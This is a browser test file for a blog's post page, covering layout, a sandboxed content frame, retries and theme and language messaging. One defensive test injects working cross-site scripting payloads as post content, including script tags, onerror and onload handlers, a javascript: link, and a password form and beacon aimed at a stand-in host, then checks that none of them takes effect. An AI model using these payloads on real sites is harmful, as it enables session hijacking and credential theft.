import { describe, expect } from 'vitest';
import { deepTest, test } from '../support/browser.ts';
import { comesFromWithin, isAt, press, seesHeading, type Tab } from '../support/browser/person.ts';
import {
  content,
  element,
  openPost,
  openPostFromWithin,
  POST,
  type Post,
} from '../support/browser/reader.ts';

/** Answers post 1 with other content, like a server that lets everything through. */
async function withContent(page: Tab, html: string): Promise<void> {
  await page.route(POST, async (route) => {
    const answer = await route.fetch();
    const body = (await answer.json()) as { data: Post };
    await route.fulfill({ response: answer, json: { ...body, data: { ...body.data, content: html } } });
  });
}

describe('a post', () => {
  test('BLG-05 has its picture, author, date and content', async ({ visit }) => {
    const page = await (await visit()).tab();
    const post = await openPost(page);
    const main = page.getByRole('main');
    await main.getByText(post.author).first().waitFor();
    expect(await main.locator('time').first().getAttribute('datetime')).toContain(
      post.published_at.slice(0, 10),
    );
    const picture = main.locator('img').first();
    expect(await picture.getAttribute('src')).toBe(post.main_media_url);
    // It shows its middle, not its top: the banner is flatter than the picture.
    const overhang = await picture.evaluate((image) => {
      const [drawn, shown] = [image, image.parentElement ?? image].map((box) => box.getBoundingClientRect());
      return Math.abs((drawn?.height ?? Infinity) - (shown?.height ?? 0));
    });
    expect(overhang).toBeLessThan(1);
    expect((await content(page).innerText()).length).toBeGreaterThan(200);
    await main
      .getByText(/\d+ min/)
      .first()
      .waitFor();
  });

  test('BLG-05 P7: the frame is sandboxed without scripts, and as tall as its content', async ({ visit }) => {
    const page = await (await visit()).tab();
    await openPost(page);
    const sandbox = (await element(page).getAttribute('sandbox')) ?? '';
    expect(sandbox.split(' ').toSorted()).toEqual([
      'allow-popups',
      'allow-popups-to-escape-sandbox',
      'allow-same-origin',
    ]);
    expect(await element(page).getAttribute('title')).toMatch(/\S/);
    const overhang = () =>
      element(page).evaluate((frame) => {
        const root = (frame as HTMLIFrameElement).contentDocument?.documentElement;
        return Math.abs((root?.scrollHeight ?? Infinity) - frame.clientHeight);
      });
    await expect.poll(overhang).toBeLessThanOrEqual(1);
    await page.setViewportSize({ width: 400, height: 800 });
    await expect.poll(overhang).toBeLessThanOrEqual(1);
  });

  deepTest('BLG-05 a link in the text opens in a new tab', async ({ visit }) => {
    const { context, tab } = await visit();
    await context.route('https://elsewhere.example/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<title>elsewhere</title>' }),
    );
    const page = await tab();
    await withContent(page, '<p>Read <a href="https://elsewhere.example/page">more</a>.</p>');
    await openPostFromWithin(page);
    const opened = context.waitForEvent('page');
    await content(page).getByRole('link', { name: 'more' }).click();
    const other = await opened;
    await expect.poll(() => other.url()).toBe('https://elsewhere.example/page');
    expect(await other.evaluate(() => opener === null)).toBe(true);
    await isAt(page, '/en/blog/1/');
  });

  test('BLG-05 hostile content has no effect', async ({ visit, allow }) => {
    // The picture without a source of its own is not there, either.
    allow(/status of 404|elsewhere|Blocked|sandboxed|Content Security Policy|policy: /);
    const { context, tab } = await visit();
    const reached: string[] = [];
    await context.route(/elsewhere\.example/, (route) => {
      reached.push(route.request().url());
      return route.fulfill({ body: '' });
    });
    const page = await tab();
    const evil = 'https://elsewhere.example';
    await withContent(
      page,
      `<p id="text">Harmless words.</p>
      <script>parent.hacked = 'script'</script>
      <img src="x" alt="" onerror="parent.hacked = 'onerror'">
      <svg onload="parent.hacked = 'svg'"><script>parent.hacked = 'svg script'</script></svg>
      <iframe srcdoc="<script>top.hacked = 'srcdoc'</script>"></iframe>
      <object data="data:text/html,<script>top.hacked = 'object'</script>"></object>
      <meta http-equiv="refresh" content="0;url=${evil}/refresh">
      <base href="${evil}/base/">
      <link rel="stylesheet" href="${evil}/style.css">
      <style>@import url(${evil}/import.css); body { background: url(${evil}/background.png) }</style>
      <p style="background-image: url(${evil}/inline.png); position: fixed; inset: 0">Cover</p>
      <img src="${evil}/beacon.png" alt="beacon" width="1" height="1">
      <form action="${evil}/form"><input name="password" autofocus><button>Send</button></form>
      <p><a id="script" href="javascript:parent.hacked = 'link'">script link</a></p>
      <p><a id="top" href="${evil}/top" target="_top">top link</a></p>`,
    );
    await openPostFromWithin(page);
    await content(page).getByText('Harmless words.').waitFor();
    await content(page).getByText('script link').click();
    await content(page).getByText('Harmless words.').click();
    const send = content(page).getByRole('button');
    if ((await send.count()) > 0) await send.click();
    // Whatever was going to load or run has done so once a later load has come and gone.
    await page.evaluate(() => fetch('/api/blog/posts/?page=1&page_size=1'));
    expect(await page.evaluate(() => (globalThis as { hacked?: string }).hacked)).toBeUndefined();
    expect(reached).toEqual([]);
    await isAt(page, '/en/blog/1/');
    const top = content(page).getByText('top link');
    if ((await top.getAttribute('href')) !== null) expect(await top.getAttribute('target')).toBe('_blank');
  });

  test('BLG-09 an unknown post is the 404 page', async ({ visit, allow }) => {
    allow(/status of 404/);
    const page = await (await visit()).tab();
    for (const id of ['999999', 'abc', '0']) {
      await page.goto(`/en/blog/${id}/`);
      await seesHeading(page, "Something's missing.");
      await isAt(page, `/en/blog/${id}/`);
    }
  });

  deepTest('BLG-05 a post that fails to load can be retried', async ({ visit, allow }) => {
    allow(/ERR_FAILED/);
    const page = await (await visit()).tab();
    await page.route(POST, (route) => route.abort());
    await comesFromWithin(page, '/en/blog/1/');
    const retry = page.getByRole('main').getByRole('button', { name: /again/i }).first();
    await retry.waitFor();
    await page.unroute(POST);
    await retry.click();
    await content(page).locator('p').first().waitFor();
  });
});

describe('without the page of its frame', () => {
  test('BLG-05 NET-01 a post says so, and its text comes with a retry', async ({ visit, allow }) => {
    allow(/ERR_INTERNET_DISCONNECTED|could not be filled/);
    const page = await (await visit()).tab();
    await page.route('**/frame/post.html', (route) => route.abort('internetdisconnected'));
    await comesFromWithin(page, '/en/blog/1/');
    const main = page.getByRole('main');
    await main.getByText('This part of the page stopped working.').waitFor();
    await page.unroute('**/frame/post.html');
    await main.getByRole('button', { name: 'Try again' }).click();
    await expect.poll(async () => (await content(page).innerText()).length).toBeGreaterThan(200);
  });

  test('BLG-05 NET-01 a served post keeps its text', async ({ visit, allow }) => {
    allow(/ERR_INTERNET_DISCONNECTED|could not be filled/);
    const page = await (await visit()).tab();
    await page.route('**/frame/post.html', (route) => route.abort('internetdisconnected'));
    const refused = page.waitForEvent('requestfailed', (request) =>
      request.url().endsWith('/frame/post.html'),
    );
    await page.goto('/en/blog/1/');
    await refused;
    await page.locator('html.started').waitFor();
    await expect.poll(() => element(page).count()).toBe(0);
    expect((await page.locator('[data-post-text]').innerText()).length).toBeGreaterThan(200);
  });
});

describe('the frame follows the page', () => {
  /** Notes what the frame is told from now on. */
  const listen = (page: Tab) =>
    element(page).evaluate((frame) => {
      const noted = globalThis as unknown as { told: { type: string; value: unknown; origin: string }[] };
      noted.told = [];
      (frame as HTMLIFrameElement).contentWindow?.addEventListener('message', ({ data, origin }) => {
        const { type, value } = data as { type: string; value: unknown };
        noted.told.push({ type, value, origin });
      });
    });
  const told = (page: Tab) => page.evaluate(() => (globalThis as unknown as { told: unknown[] }).told);
  const look = (page: Tab) =>
    element(page).evaluate((frame) => {
      const view = (frame as HTMLIFrameElement).contentWindow;
      const root = view?.document.documentElement;
      const [red = 0] = /\d+/.exec(root ? (view?.getComputedStyle(root).backgroundColor ?? '') : '') ?? [];
      return { isDark: Number(red) < 64, lang: root?.lang, dir: root?.dir };
    });

  test('THM-02 a theme change is sent to it as TOGGLE_DARK_MODE, and shown in it', async ({ visit }) => {
    const page = await (await visit({ colorScheme: 'light' })).tab();
    await openPost(page);
    expect((await look(page)).isDark).toBe(false);
    await listen(page);
    await press(page, /dark/i);
    await expect.poll(async () => (await look(page)).isDark).toBe(true);
    const { origin } = new URL(page.url());
    expect(await told(page)).toEqual([{ type: 'TOGGLE_DARK_MODE', value: true, origin }]);
    await page.reload();
    await content(page).locator('p').first().waitFor();
    expect((await look(page)).isDark).toBe(true);
  });

  deepTest(
    'THM-03 a language change is sent to it as TOGGLE_LANGUAGE, and shown in it',
    async ({ visit }) => {
      const page = await (await visit()).tab();
      await openPost(page);
      await listen(page);
      await page.getByRole('button', { name: /Language/ }).click();
      await page.getByRole('link', { name: 'کوردیی ناوەندی' }).click();
      await isAt(page, '/ckb/blog/1/');
      await expect.poll(async () => (await look(page)).dir).toBe('rtl');
      expect((await look(page)).lang).toBe('ckb');
      expect(await told(page)).toContainEqual({
        type: 'TOGGLE_LANGUAGE',
        value: 'ckb',
        origin: new URL(page.url()).origin,
      });
    },
  );
});
